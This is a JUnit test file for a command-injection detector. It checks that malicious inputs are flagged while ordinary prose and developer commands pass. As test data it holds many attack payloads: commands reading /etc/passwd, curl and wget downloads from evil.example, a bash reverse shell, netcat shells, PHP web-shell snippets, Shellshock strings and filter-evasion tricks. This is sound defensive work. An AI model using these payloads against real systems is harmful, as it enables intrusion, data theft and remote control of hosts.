package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import dev.lambdaguard.input.Category;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** OS command injection and code execution: the grammar of the attack, its evasions, and the text that passes. */
class CmdiDetectorTest {

  private final CmdiDetector detector = new CmdiDetector();

  private Detection detect(String value) {
    return detector.detect(Normalized.of(value));
  }

  private void assertRule(String ruleId, String value) {
    Detection d = detect(value);
    assertNotNull(d, () -> "not detected: " + value);
    assertEquals(Category.CMDI, d.category());
    assertEquals(ruleId, d.ruleId(), () -> "rule for: " + value);
  }

  @Test
  void isTheCmdiCategory() {
    assertEquals(Category.CMDI, detector.category());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "; id", "a;id", "x|id|", "x || whoami", "1 && uname -a", "file & ping -c 3 10.0.0.1", "a;cat /etc/passwd",
    "q | type C:\\Windows\\win.ini", "';sleep 10;'", "\";netstat -an;\"", "x|nslookup attacker.example",
    "x && curl http://evil.example/x.sh", "x; wget -O /tmp/x http://evil.example/x", "x| dir C:\\",
    "x && net user eve P4ss /add", "x & reg add HKLM\\Software\\X /v y", "x;python3 -c 'print(1)'",
    "x| bash -i", "x | sh", "x;echo 'owned' > /var/www/x.html", "x; rm -rf /tmp/x", "x; find / -perm -4000",
    "x | powershell -enc SQBFAFgA", "x & cmd /c dir", "x|nc 10.0.0.1 4444", "x;ps aux", "x; env",
    "a%0Aid", "127.0.0.1%0a%0dwhoami", "\\nid\\n", "x; sudo whoami", "x;kill -9 1", "x; echo `id`",
    "x; printenv", "x | Invoke-Expression", "x;DIR C:\\Users"
  })
  void aCommandAfterASeparatorIsDetected(String value) {
    assertRule("cmdi.separator-command", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    ";touch /tmp/pwned", "x && mv shell.txt shell.php", "x|tee /var/www/html/s.php", "x;cut -d: -f1 /etc/group",
    "x;cp /srv/a /tmp/b", "x;mkdir /tmp/x", "x|xargs -n1", "x;vim -c ':!id'", "x;gdb -nx -ex '!id'",
    ";awk 'BEGIN{print 1}'", "x|dig attacker.example", "x;whois evil.example", "x;last -n 5", "x|top -b",
    "x;lsmod", "x;tar -czf /tmp/w.tgz /var/www", "x;echo hi > /tmp/x;touch ./y",
    ";regedit HKLM\\Software\\Microsoft", "x & runas /user:admin cmd", "x | forfiles /p c:\\windows /c \"cmd /c dir\"",
    "x&&winget install x", "x | findstr /si password *.xml", "x & xcopy c:\\inetpub x",
    "x;sudo -u root id", "x;nice -n 19 whoami", "x;eval id", "x;su -c id", "x;id>/tmp/x",
    "x & timeout /t 5", "x;xterm -display 10.0.0.1:1", "x;history -c", "\";echo VAR$((5+5))",
    "&echo TST$((1+1))", "x;if [ 1 -eq 1 ];then sleep 5;fi", "|for i in 1 2;do sleep 1;done"
  })
  void commandsOfEveryKindAreKnownAfterASeparator(String value) {
    assertRule("cmdi.separator-command", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "Let the cat out of the bag; touch base with the team tomorrow.", "We met last week; last time was better.",
    "Dig in | the food is great", "first|last", "bottom|top", "roles=admin|users", "fast|free", "golf & tee -time",
    "Please cp me on the thread; thanks", "Date format: dd/mm/yyyy; time zone UTC", "hello; time he came",
    "I went to the store; cut the price in half", "rock & roll; top 10 hits", "the tar pit | dig site",
    "x; touch up the photo", "Who did it? | who knows", "Game over; timeout 30", "x; nice -looking car",
    "Sleepy; eval is evil", "Gracias; su casa", "python -m venv .venv && source .venv/bin/activate", "x; sudo -i",
    "a history; history of art", "Your id > 5", "Reboot the router; then ping me later",
    "First we eat; then sleep 8 hours", "Whatever you do, do it well; then rest", "Price: 5$ (approx); echo chamber",
    "Notes; C:\\Users\\anna\\report.docx", "Sizes: 50% & 25%",
    "Files; C:\\Users\\anna\\whoami.txt", "Ratio 3:1; 5:2", "Ticket 4411; the file C:\\Users\\anna\\report.docx is lost"
  })
  void englishWordsThatNameCommandsPassInProse(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"`top`", "$(last)", "x`who`", "`cut x``dig y`", "$(xargs)"})
  void aSessionListerAloneIsACommandOnlyInASubstitution(String value) {
    assertRule("cmdi.substitution", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "`id`", "$(whoami)", "x$(id)y", "name=`uname -a`", "$(`cat /etc/passwd`)", "`sleep 5`", "x <(id)",
    "ping -c 1 `whoami`.evil.example", "$(curl http://evil.example)", ";`echo id`"
  })
  void aCommandInASubstitutionIsDetected(String value) {
    assertRule("cmdi.substitution", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "cat /etc/passwd", "cat</etc/shadow", "ls -la /", "ls -l /var/www/", "type C:\\boot.ini",
    "dir C:\\Users", "uname -a", "netstat -ano", "ipconfig /all", "whoami /priv", "perl -e 'print 1'",
    "python -c 'import os'", "php -r 'echo 1;'", "ruby -e 'puts 1'", "bash -c 'id'",
    "nc -lvp 4444 -e sh", "net user eve P4ss /ADD", "reg add \"HKLM\\Software\" /v x",
    "powershell -nop -c \"iex(1)\"", "rm -rf /"
  })
  void aValueThatIsADangerousCommandLineIsDetected(String value) {
    assertRule("cmdi.command-line", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    ";/usr/bin/id", "|/bin/ls -al", "a|usr/bin/id", "/bin/cat /etc/passwd", "x; exec /bin/sh -i",
    "x -e /bin/bash", ";c:\\windows\\system32\\cmd.exe /c dir", "& %COMSPEC% /c dir",
    "| C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c id", "&& %SYSTEMROOT%\\system32\\net.exe user"
  })
  void aBinaryByPathInCommandPositionIsDetected(String value) {
    assertRule("cmdi.shell-path", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
    ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
    ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i", "wh'oami", "w\"hoami", "''whoa'mi",
    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x", "x;c$!at /etc/passwd", ";$SHELL -c id",
    ";${SHELL} -c 'id'", ";$BASH -c id", "x;c$?at /etc/passwd",
    "x;who$$ami", "x;/bin/ca? /etc/passwd", "x;/usr/bin/wh?ami", "a=c;b=at;$a$b /etc/passwd",
    "c1=c;c2=at;$c1$c2 /etc/passwd", "ti''me curl example.com", ";$0 -c id", "x;$0 -c 'cat /etc/passwd'"
  })
  void quoteSplittingAndBlankEvasionsAreDetected(String value) {
    assertRule("cmdi.evasion", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "system('cat /etc/passwd')", "exec(\"whoami\")",
    "passthru($_REQUEST['x'])", "eval($_POST['x'])", "x;phpinfo();", ":phpversion();", "{${system('id')}}",
    "${@print(md5(1))}", ";{$_GET[\"cmd\"]}", "os.system('id')", "subprocess.check_output(['ls'])",
    "__import__('os')", "require('child_process')", "Runtime.getRuntime().exec(cmd)", "IO.popen('id')",
    "eval(base64_decode('aWQ='))", "SYSTEM('ls')", "%x(id)", "out = %x(cat /etc/passwd)", "open(F, \"id|\")",
    "open(my $fh, \"-|\", \"id\")", "open(F, '|cat /etc/passwd')", "x;php7.4 -r 'system(1);'",
    "'.phpinfo().'", "\".phpinfo().\"", "x' . phpinfo() . '"
  })
  void codeExecutionCallsAreDetected(String value) {
    assertRule("cmdi.code-exec", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "; id", "a;id", "x|id|", "x || whoami", "1 && uname -a", "file & ping -c 3 10.0.0.1", "a;cat /etc/passwd",
    "q | type C:\\Windows\\win.ini", "';sleep 10;'", "x && curl http://evil.example/x.sh", "x| dir C:\\",
    "x && net user eve P4ss /add", "x;python3 -c 'print(1)'", "x| bash -i", "x | sh", "x; rm -rf /tmp/x",
    "x;echo 'owned' > /var/www/x.html", "x | powershell -enc SQBFAFgA", "x;ps aux", "x; env", "\\nid\\n",
    "x; echo `id`", "`id`", "$(whoami)", "name=`uname -a`", "x <(id)", "diff >(ls) y", "x ^whoami",
    "ping -c 1 `whoami`.evil.example", ";`echo id`", "x`echo hi`", "$(echo hi)", ";/usr/bin/id", "|/bin/ls -al",
    "a|usr/bin/id", "x; exec /bin/sh -i", "x -e /bin/bash", ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami",
    "& w^h^o^a^m^i", ";cat${IFS}/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
    ";$'\\x63\\x61\\x74' /etc/passwd", "CMD=$'id';$CMD", "<?php system($_GET['c']); ?>", "<?= `id` ?>",
    "system('cat /etc/passwd')", "exec(\"whoami\")", "x;phpinfo();", "{${system('id')}}", "${@print(md5(1))}",
    ";{$_GET[\"cmd\"]}", "os.system('id')", "require('child_process')", "eval(base64_decode('aWQ='))",
    "<!--#exec cmd=\"ls\"-->", "() { :;}; echo x", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "x<id",
    "x;cat -n x", "x;sleep 5", "x;echo HELLO", "x;ls", "x;ls ~", "x;curl a.b", "x; cat<x", "x;kill -9 1"
  })
  void aLongValueIsJudgedAsEveryTriggerWereRead(String attack) {
    // A long value stops only at the trigger characters, and reads further only the kinds of command, that its
    // character set allows: the verdict is the one of a scan that stops everywhere and reads every command.
    // Fillers with hundreds of command words make the scan ask each word's window for its arguments (CharBlocks),
    // with and without the characters arguments are made of in some of the windows.
    String[] fillers = {"z", "lorem ipsum ", "ab sh(", "<div class=x>", ";cat 'x", "a(b)c;d|e&sh'f", "\\\\n",
        ";cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;"
            + "cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;cat 'x;ls ./",
        ";echo x;id y;sleep z;ping w;sh v"};
    for (String filler : fillers) {
      String padding = filler.repeat(5000 / filler.length() + 1);
      for (String value : new String[] {padding + " " + attack, attack + " " + padding, attack + "\n" + padding,
          padding + "\n" + attack + "\n" + padding}) {
        Detection everywhere = CmdiScanner.scan(value);
        Detection d = detect(value);
        assertEquals(everywhere == null ? null : everywhere.ruleId(), d == null ? null : d.ruleId(), value);
      }
    }
  }

  @Test
  void serverSideIncludesShellshockAndReverseShellsAreDetected() {
    assertRule("cmdi.ssi", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->");
    assertRule("cmdi.ssi", "&lt;!--#exec%20cmd=&quot;id&quot;--&gt;");
    assertRule("cmdi.shellshock", "() { :;}; /bin/bash -c id");
    assertRule("cmdi.shellshock", "() { ignored; }; echo x");
    assertRule("cmdi.reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1");
  }

  @Test
  void encodedPayloadsAreSeenDecoded() {
    assertRule("cmdi.separator-command", "%3Bcat%20%2Fetc%2Fpasswd");
    assertRule("cmdi.substitution", "%24%28id%29");
    assertRule("cmdi.separator-command", "%253Bid");
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "window.open(\"https://example.com\")", "File.open(\"a.txt\")", "open(\"report.pdf\")", "Please open(the door)",
    "I use python3.10 and php8 daily; perl5 too", "open(F, 'a|b')x", "the 2.7 release | python2.7 is old"
  })
  void openWithoutAPipeAndVersionedNamesInProsePass(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"x;python3.10 -c 'import os'", "x|perl5.36 -e 'print 1'"})
  void anInterpreterNamedWithItsVersionIsTheInterpreter(String value) {
    assertRule("cmdi.separator-command", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "-oProxyCommand=id", "-o ProxyCommand=\"sh -c id\" host", "--upload-pack=touch /tmp/x",
    "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "--use-compress-program=id", "-c core.sshCommand=id",
    " --rsh=sh"
  })
  void anOptionThatNamesTheCommandToRunIsArgumentInjection(String value) {
    assertRule("cmdi.argument-injection", value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "--color=always", "-Dexec.mainClass=com.example.Main", "--help", "-5 degrees", "--- separator ---",
    "-moz-transition: all 1s", "--user=anna --password=x", "- item one", "--exec", "-command Get-Process",
    "Set the option -oProxyCommand=… only in your own ssh config", "-c color=red"
  })
  void optionsThatRunNothingPass(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @ParameterizedTest
  @ValueSource(strings = {";cat ${HOME:0:1}etc${HOME:0:1}passwd", "x|ls ${PWD:0:1}"})
  void aSlashCutOutOfAVariableIsAPath(String value) {
    assertNotNull(detect(value), () -> "not detected: " + value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "$5", "$5.00 & free shipping", "Total: 100%x(2) discount", "price $0 - free", "see ${HOME:0:1} in the docs", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
    "Don't forget the semicolon; it matters.", "Sleep 8 hours; eat well", "I need to sleep; talk tomorrow",
    "Please type your name; type carefully", "The cat sat; the dog ran", "Cats & dogs; ID card needed",
    "99.9% uptime; uptime matters", "skills: java; python; go", "Press stop; halt", "echo chamber; echo effect",
    "Don't curl your hair; curl is bad", "Please find attached; find the invoice below", "ps. call me",
    "| Name | ID |\n|---|---|\n| Jane | id |", "https://example.com/search?q=cat&type=image&id=42",
    "https://example.com/?cmd=ls&dir=/tmp", "data:image/png;base64,iVBORw0KGgo=",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "text/html,application/xml;q=0.9",
    "cd ~/projects/my-app && npm start", "curl -s https://api.example.com/health | jq .status",
    "ls -la ~/Downloads", "cat /etc/os-release", "tail -f /var/log/syslog", "git commit -m \"fix: handle empty cart\"", "python -m venv .venv",
    "pip install 'requests>=2.31,<3'", "`npm test` passes locally", "run `npm install` then `npm test`",
    "I ran `uname -a` and got Linux", "Output of `id`: uid=1000", "```bash\nmvn -q package\n```",
    "docker ps | grep postgres", "ps aux | grep java", "echo $PATH", "curl/8.5.0", "/bin/bash is my shell",
    "#!/bin/bash", "for (int i = 0; i < n; i++) sum += a[i];", "if (user != null && user.isActive()) { greet(user); }",
    "assertEquals(42, answer());", "regex.exec(input)", "$('#menu').toggle()", "$((1 + 2))",
    "export default function App() { return null; }", "printf(\"%s\\n\", argv[1]);", "the system() call failed",
    "5 Washington Blvd\nDenver, CO 80202", "Line1\nLine2", "name: Jane\nrole: admin", "<!-- comment -->",
    "eval is evil", "sleep number bed sale", "python list comprehension if else", "a;b;c;d", "key=value; other=thing",
    "Jane Doe <jane.doe@example.com>", "Price: $1,299 (was $1,499)", "<-- back | next -->", "1 < n && n > 0"
  })
  void legitimateTextPasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @Test
  void aWordQuotedTheGnuWayIsNoSubstitutionWhileTheSameWordBetweenBackticksIs() {
    // `awk' opens a substitution no backtick closes, which no shell runs: documentation's quoting, not an attack
    for (String prose : new String[] {"`awk', a program to select records in a file", "`awk'",
        "`sed' is a stream editor", "Run `make install' as root.", "see `id' and `ls' for details"}) {
      assertNull(detect(prose), () -> "flagged: " + prose);
    }
    assertRule("cmdi.substitution", "`id`");
    assertRule("cmdi.substitution", "x`cat /etc/passwd`");
    assertRule("cmdi.substitution", "`awk 'BEGIN{system(\"id\")}'`");
    assertRule("cmdi.evasion", "`id''"); // an empty quote glued to a word is quote-splitting, as in w'h'o'a'm'i
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "| Name | ID |\n|---|---|\n| Jane | id |", "| Name | ID |\n| --- | --- |\n| Jane | id |",
    "| Name | ID |\n|:--|--:|\n| Jane | id |", "| Name | ID |\n| :-- | --: |\n| Jane | id |"
  })
  void everyStyleOfMarkdownTableUsesPipesAsBorders(String table) {
    assertNull(detect(table), () -> "flagged: " + table);
    assertRule("cmdi.separator-command", table.replace("---", "--").replace(":--", "-")); // no delimiter row
  }

  @Test
  void aWeakReadingIsStillImprovedByTheRestOfItsCommand() {
    String padding = "x;sh -x".repeat(1000);
    assertRule("cmdi.evasion", ";cat /etc/passwd;cat${IFS}/etc/passwd" + padding);
    assertRule("cmdi.reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1;" + padding);
    assertRule("cmdi.separator-command", padding);
  }

  @ParameterizedTest
  @ValueSource(strings = {";", ";;;;", "| ", "&&", "$(", "`", "\\n", "; ls ", "${IFS}", "eval(", "{a,", "; cat '",
      "() {", "/bin/", "<?", "a\n", ";sh -x", ";cat 'x", "sh(", "<ab sh=", "\\nX:", "\\nX:ab"})
  void aMegabyteOfNearMissesCompletes(String unit) {
    String value = unit.repeat(1_000_000 / unit.length());
    detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
  }

  @ParameterizedTest
  @ValueSource(strings = {"eval(", "eval(a", "evalab(", "open(", "open(a", "open(F, \"", ".call(", "__import__(",
      "import(", "systemab(", "execScript(", "setInterval(", "constructor(", "String.fromCharCode("})
  void aMegabyteOfCallsThatRunNothingIsClean(String unit) {
    // each parenthesis is a call whose name, receiver and first argument are read: no look reads the next call's
    String value = unit.repeat(1_000_000 / unit.length());
    assertNull(detect(value), unit);
  }

  @Test
  void aWindowsProgramIsJudgedByTheLastSegmentOfAPathUpToMaxPath() {
    // padding climbs make a path longer without changing what it runs: judged whole, up to Windows' MAX_PATH
    String padded = "; C:\\Windows" + "\\System32\\..".repeat(14) + "\\System32\\cmd.exe /c whoami";
    assertRule("cmdi.shell-path", padded);
  }

  @Test
  void aWindowsProgramAfterAFloodOfEscapedLineBreaksIsFoundAsItIsAlone() {
    // every escaped break starts a command word inside one long run, whose end is remembered, not read again
    String flood = "\\nX:".repeat(25_000);
    for (String attack : new String[] {"; %COMSPEC% /c whoami", "; D:\\bin\\powershell.exe -c id",
        "; C:\\Windows\\System32\\cmd.exe /c whoami"}) {
      Detection alone = detect(attack);
      assertNotNull(alone, attack);
      assertRule(alone.ruleId(), flood + attack);
    }
  }


  @ParameterizedTest
  @ValueSource(strings = {";", "\\nX:", "$(", "\n", "\r\n", "&cat", "(|", "(&", "\\", "|", "&&", "\\n",
      "\\u", "\\x", ";C:\\a\\b ", "eval("})
  void anAttackAfterAFloodOfTriggersThatStartNothingKeepsItsVerdict(String unit) {
    // the separators of such a flood are passed over at a look at the next character; the attack after it is read
    String flood = unit.repeat(100_000 / unit.length());
    for (String attack : new String[] {"; cat /etc/passwd", "| id", "$(whoami)", "\\nid\\n",
        "; C:\\Windows\\System32\\cmd.exe /c whoami", "&& sleep 5", ";w'h'o'a'm'i"}) {
      Detection alone = detect(attack);
      assertNotNull(alone, attack);
      // an escaped line break after the letters' blank ends a line of prose: the next is judged as a command line
      String[] values = attack.startsWith("\\") ? new String[] {flood + attack}
          : new String[] {flood + attack, flood + Floods.EVERY_LETTER + attack};
      for (String value : values) {
        Detection d = detect(value);
        assertNotNull(d, () -> unit + " then " + attack);
        assertEquals(alone.ruleId(), d.ruleId(), () -> unit + " then " + attack);
        assertEquals(alone.score(), d.score(), () -> unit + " then " + attack);
      }
    }
    assertNull(detect(flood + "\nTerms & Conditions; see page 3"), unit);
    assertNull(detect(flood + "\nrock & roll"), unit);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a(b)c;d|e&sh'f", "${7*7}", "#set($", "eval(", "a.system('x", "\\nX:", ";X:\\a", "{7", "/x",
      ";d", "|e", "\nd", "\\nd", "(d;"})
  void anAttackAfterAFloodOfSeparatorsBeforeNoCommandIsFoundAsItIsAlone(String unit) {
    // a separator before a word of one character is judged from the character after it, one before a Windows
    // path by windowsBinary alone, and the other triggers of these floods as before; the attack after the
    // flood, with a benign neighbour, is read as it is alone
    String flood = unit.repeat(100_000 / unit.length());
    for (String attack : new String[] {" ;cat${IFS}/etc/passwd", " {${system('id')}}", " system('cat /etc/passwd')",
        " {cat,/etc/passwd}", " /bin/sh -c id", " bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", " () { :;}; /bin/id",
        " $(whoami)", " eval(base64_decode($x))", " ; C:\\Windows\\System32\\cmd.exe /c whoami"}) {
      String value = attack + " (see the Q&A; page 3)";
      Detection alone = detect(value);
      assertNotNull(alone, value);
      Detection d = detect(flood + value);
      assertNotNull(d, () -> unit + " then " + value);
      assertEquals(alone.ruleId(), d.ruleId(), () -> unit + " then " + value);
      assertEquals(alone.score(), d.score(), () -> unit + " then " + value);
    }
    assertNull(detect(flood), unit);
    assertNull(detect(flood + Floods.EVERY_LETTER), unit);
  }

  @ParameterizedTest
  @ValueSource(strings = {";cat 'x", ";tac x", "&&cat q", ";cut x"})
  void anAttackAfterAFloodOfCommandWordsWithoutTheirArgumentsIsFoundAsItIsAlone(String unit) {
    // the letters first make every command word's arguments read; past the first few hundred, a command position
    // is asked whether the blocks of characters around it can make a rule's word, path or variable: the attack's
    // blocks can, right after the flood or after a stretch of separators before no command
    String flood = Floods.EVERY_LETTER + unit.repeat(100_000 / unit.length());
    for (String attack : new String[] {"; cat /etc/passwd", ";/???/??t /???/??????", "; x; $0 -c x",
        "X=$'\\x69\\x64';$X", ";w'h'o'a'm'i", "; C:\\Windows\\System32\\cmd.exe /c whoami",
        "; sudo cat /etc/shadow", ";/usr/bin/id", "; x;$SHELL -c x"}) {
      Detection alone = detect(attack);
      assertNotNull(alone, attack);
      for (String gap : new String[] {"", "; x".repeat(200)}) {
        Detection d = detect(flood + gap + attack);
        assertNotNull(d, () -> unit + " then " + attack);
        assertEquals(alone.ruleId(), d.ruleId(), () -> unit + " then " + attack);
        assertEquals(alone.score(), d.score(), () -> unit + " then " + attack);
      }
    }
    assertNull(detect(flood), unit);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\nX:", "\\n", ";", "x;", "\\nX"})
  void whetherProseComesBeforeALineBreakAfterAFloodIsAnsweredAsAfterAFewUnits(String unit) {
    // prose is looked for from the first blank on, with the word before that blank read back: the flood before
    // it is not read, and a line break after the blank is judged as after a short value of the same units
    String flood = unit.repeat(100_000 / unit.length());
    String few = unit.repeat(3);
    for (String tail : new String[] {" \\ncat /etc/passwd", " \nuname -a", " ok \\nid", "\\n cat /etc/passwd",
        " \\n; C:\\Windows\\System32\\cmd.exe /c whoami", Floods.EVERY_LETTER + "\\nX:\\nid"}) {
      Detection expected = detect(few + tail);
      Detection d = detect(flood + tail);
      assertEquals(expected == null ? null : expected.ruleId(), d == null ? null : d.ruleId(), () -> unit + tail);
    }
  }

  @Test
  void aCallThatRunsCodeAfterAFloodOfCallsIsFound() {
    int size = 100_000;
    assertRule("cmdi.code-exec", "eval(".repeat(size / 5) + "eval(base64_decode($x))");
    assertRule("cmdi.code-exec", "EVAL(".repeat(size / 5) + "Eval(Base64_Decode($x))");
    assertRule("cmdi.code-exec", "open(".repeat(size / 5) + "open(F, \"cat /etc/passwd|\")");
    assertRule("cmdi.code-exec", "open(F, \"".repeat(size / 9) + "open(F, \"id|\")");
    assertRule("cmdi.code-exec", "open(F, \"".repeat(size / 9) + "open(my $fh, \"-|\", \"id\")");
    assertRule("cmdi.code-exec", "open(F, \"".repeat(size / 9) + "open(F, \"|-\")");
    assertRule("cmdi.code-exec", ".call(".repeat(size / 6) + "subprocess.call(x)");
    assertRule("cmdi.code-exec", "__import__(".repeat(size / 11) + "__import__(\"os\").system(\"id\")");
    assertRule("cmdi.code-exec", "import(".repeat(size / 7) + ";system(\"id\")");
    assertNull(detect("eval(".repeat(size / 5) + "eval(decode($x))"));
  }
}
